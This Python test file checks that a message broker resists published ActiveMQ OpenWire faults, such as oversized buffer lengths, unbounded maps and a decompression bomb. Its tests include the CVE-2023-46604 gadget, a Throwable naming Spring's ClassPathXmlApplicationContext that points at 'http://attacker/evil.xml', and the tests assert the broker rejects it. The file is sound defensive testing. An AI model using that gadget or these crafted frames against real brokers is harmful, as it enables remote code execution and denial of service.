"""Tests that the broker has none of the published faults of ActiveMQ's OpenWire. Each test names the fault.

Those of authorization (CVE-2026-54475, CVE-2026-61487) are in tests/integration/openwire/test_raw_grants.py.
"""

import struct
import sys
import tracemalloc
import zlib
from collections.abc import Callable
from functools import partial

import pytest
from msgspec.structs import replace

from tests.unit.openwire_client import CONNECTION, QUEUE, Client
from truenext.errors import Code, RemoteProtocolError
from truenext.model.commands import InvalidFrame, Nack, Send
from truenext.model.limits import BODY_BYTES_MAX, LOGIN_BYTES_MAX, MAP_DEPTH_MAX, MAP_VALUES_MAX
from truenext.model.loose_fields import FieldReader, Tag, TypedValue, encode_bytes, encode_map, text_value
from truenext.model.openwire_message import header_lines, properties_of, stomp_message
from truenext.model.selector import compile_selector
from truenext.wire.openwire.codec import produced_message
from truenext.wire.openwire.consumers import POISON
from truenext.wire.openwire.fields import decode_structure, encode_frame
from truenext.wire.openwire.structures import (
    ConnectionControl,
    ConnectionErrorInfo,
    ConnectionId,
    ConnectionInfo,
    ExceptionResponse,
    KeepAliveInfo,
    MapMessage,
    MessageDispatch,
    MessageId,
    ProducerId,
    SessionId,
    SessionInfo,
    TextMessage,
    Throwable,
    WireCommand,
    WireFormatInfo,
)

GADGET = "org.springframework.context.support.ClassPathXmlApplicationContext"
ATTACK = Throwable(GADGET, "http://attacker/evil.xml")
HUGE = 2**31 - 1


def memory_of(action: Callable[[], object]) -> int:
    """Return the bytes that an action which fails has allocated at most."""
    tracemalloc.start()
    try:
        with pytest.raises(RemoteProtocolError):
            action()
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize("logs_in", [False, True])
@pytest.mark.parametrize("command", [ExceptionResponse(7, exception=ATTACK), ConnectionErrorInfo(7, exception=ATTACK)])
def test_exception_of_a_client_makes_no_object_of_the_class_that_it_names(command: WireCommand, logs_in: bool) -> None:
    """CVE-2023-46604: unmarshalling an exception made an object of any class."""
    found = decode_structure(FieldReader(encode_frame(command)[4:]))
    assert found == command
    client = Client(logs_in=logs_in)
    if not logs_in:
        with pytest.raises(RemoteProtocolError, match="before ConnectionInfo"):
            client.send(command)
        return
    client.send(command)
    (refused,) = client.take_commands()
    assert isinstance(refused, InvalidFrame) and refused.code is Code.COMMAND and "not for clients" in refused.reason


def test_exception_in_an_acknowledgement_is_a_text() -> None:
    """CVE-2023-46604: an acknowledgement contains an exception, too."""
    client = Client()
    client.consume()
    client.deliver(1)
    client.ack(POISON, 1, 1, poison_cause=ATTACK)
    nack = client.take_commands()[0]
    assert isinstance(nack, Nack) and nack.cause == f"{GADGET}: {ATTACK.message}"


def message_fields(content: bytes, properties: bytes) -> bytes:
    """Return the frame of a message in which these encoded fields stand for content and properties."""
    producer = ProducerId(CONNECTION, 1, 1)
    message = TextMessage(
        7, False, producer, QUEUE, message_id=MessageId(None, producer, 1), content=b"CC", marshalled_properties=b"PP"
    )
    frame = encode_frame(message)[4:]
    frame = frame.replace(encode_bytes(b"CC"), content).replace(encode_bytes(b"PP"), properties)
    return struct.pack(">i", len(frame)) + frame


@pytest.mark.parametrize("size", [HUGE, -1, 2**24])
def test_length_of_a_buffer_is_compared_with_its_frame_before_memory_is_taken(size: int) -> None:
    """CVE-2025-27533: the size of a buffer was not checked before its allocation."""
    claimed = b"\1" + struct.pack(">i", size)
    frames = [
        message_fields(claimed, b"\0"),
        message_fields(b"\0", claimed),
        struct.pack(">i", 18) + b"\x01ActiveMQ" + struct.pack(">i", 12) + claimed,
    ]
    for frame in frames:
        write = Client().write
        assert memory_of(partial(write, frame)) < 200_000


def test_frame_of_any_size_takes_only_the_memory_of_what_has_come() -> None:
    """CVE-2025-27533: as is the size of the frame itself."""
    client = Client()
    client.write(struct.pack(">i", BODY_BYTES_MAX) + b"\x1c")
    assert len(client.session.pending) == 5
    for size in (HUGE, -1, -(2**31)):
        assert memory_of(partial(Client().write, struct.pack(">i", size) + b"\0")) < 200_000


@pytest.mark.parametrize("parts", [1, 3, 50])
def test_bytes_before_the_login_are_few_in_all_frames_together(parts: int) -> None:
    """CVE-2026-50734, and CVE-2026-50750, which came with its mend: frames before the login were of any size."""
    client = Client(logs_in=False)
    frame = encode_frame(ConnectionControl(1, connected_brokers="x" * (LOGIN_BYTES_MAX // parts)))
    with pytest.raises(RemoteProtocolError, match=f"more than {LOGIN_BYTES_MAX} bytes before ConnectionInfo"):
        for _ in range(parts):
            client.write(frame[:10])
            client.write(frame[10:])
    assert len(client.session.pending) <= LOGIN_BYTES_MAX


def test_keep_alives_before_the_login_take_no_memory() -> None:
    client = Client(logs_in=False)
    for _ in range(2 * LOGIN_BYTES_MAX // 14):
        client.send(KeepAliveInfo(1, True))
    assert not client.session.pending
    client.send(ConnectionInfo(1, True, ConnectionId(CONNECTION)), SessionInfo(2, True, SessionId(CONNECTION, 1)))
    assert client.session.is_connected


def nested(depth: int, tag: int) -> bytes:
    """Return a map with so many maps or lists inside one another."""
    start = struct.pack(">iH", 1, 1) + b"a" + bytes([tag])
    inner = struct.pack(">iH", 1, 1) + b"a" if tag == Tag.MAP else struct.pack(">i", 1)
    return start + (inner + bytes([tag])) * depth + struct.pack(">i", 0)


MAPS = {
    "many entries, as the count says": struct.pack(">i", HUGE),
    "a negative count": struct.pack(">i", -2),
    "many entries": struct.pack(">i", MAP_VALUES_MAX + 1) + b"\0\0\0" * (MAP_VALUES_MAX + 1),
    "a list with a great count": struct.pack(">iH", 1, 1) + b"a" + bytes([Tag.LIST]) + struct.pack(">i", HUGE),
    "maps inside maps": nested(MAP_DEPTH_MAX + 1, Tag.MAP),
    "lists inside lists": nested(10_000, Tag.LIST),
}


@pytest.mark.parametrize("properties", MAPS.values(), ids=MAPS)
def test_map_is_bounded_in_entries_and_depth(properties: bytes) -> None:
    """CVE-2026-53917: the number of entries was not checked."""
    assert memory_of(lambda: FieldReader(properties).read_map()) < 32 * MAP_VALUES_MAX
    opening = encode_frame(WireFormatInfo(12, properties))
    if len(opening) < LOGIN_BYTES_MAX:
        client = Client(logs_in=False)
        client.session = type(client.session)(session_id="t", identity="b", server_name="x")
        with pytest.raises(RemoteProtocolError):
            client.write(opening)
    # The broker relays properties that it has not read: whoever reads them finds none.
    client = Client()
    client.write(message_fields(b"\0", encode_bytes(properties)))
    (send,) = client.take_commands()
    if len(properties) > MAP_VALUES_MAX:
        # They are all there, and so many that their message is refused.
        assert isinstance(send, InvalidFrame) and send.code is Code.LIMIT
        return
    assert isinstance(send, Send) and properties_of(send.message) == {}
    assert header_lines(send.message).count(b"\n") < 20


def test_content_that_grows_without_end_when_it_is_decompressed_is_left_compressed() -> None:
    bomb = zlib.compress(bytes(8 * BODY_BYTES_MAX))
    client = Client()
    producer = ProducerId(CONNECTION, 1, 1)
    message = MapMessage(7, False, producer, QUEUE, message_id=MessageId(None, producer, 1), content=bomb)
    client.send(replace(message, is_compressed=True))
    (send,) = client.take_commands()
    assert isinstance(send, Send)
    tracemalloc.start()
    _, body = stomp_message(send.message)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert len(body) <= BODY_BYTES_MAX and peak < 3 * BODY_BYTES_MAX


@pytest.mark.parametrize("kind", [Tag.LIST, Tag.MAP])
def test_selector_reads_lists_and_maps_of_properties_once_for_their_bytes(kind: Tag) -> None:
    """200 lists of 60,000 values each took a minute. The broker may have them of a producer that may send more."""
    value: object = [TypedValue(Tag.NULL, None)] * 60_000
    if kind is Tag.MAP:
        value = {str(number): TypedValue(Tag.NULL, None) for number in range(60_000)}
    lists = encode_map({str(number): TypedValue(kind, value) for number in range(20)} | {"z": text_value("a")})
    producer = ProducerId(CONNECTION, 1, 1)
    message = TextMessage(7, False, producer, QUEUE, message_id=MessageId(None, producer, 1))
    sent = produced_message(replace(message, marshalled_properties=lists)).message
    selector = compile_selector("z = 'a'")
    reads = 0

    def count(*_: object) -> None:
        nonlocal reads
        reads += 1

    sys.setprofile(count)
    try:
        assert not selector.matches(sent)
    finally:
        sys.setprofile(None)
    assert reads < 3 * MAP_VALUES_MAX, "calls for more values than one map may have"


def test_one_bad_property_does_not_keep_a_message_from_its_consumer() -> None:
    properties = encode_map({"a": TypedValue(Tag.LIST, [TypedValue(Tag.NULL, None)])})[:-1] + b"\x63"
    client = Client()
    client.write(message_fields(b"\0", encode_bytes(properties)))
    (send,) = client.take_commands()
    assert isinstance(send, Send)
    client.consume()
    client.deliver(1, message=send.message)
    assert [type(each) for each in client.take_answers()] == [MessageDispatch]
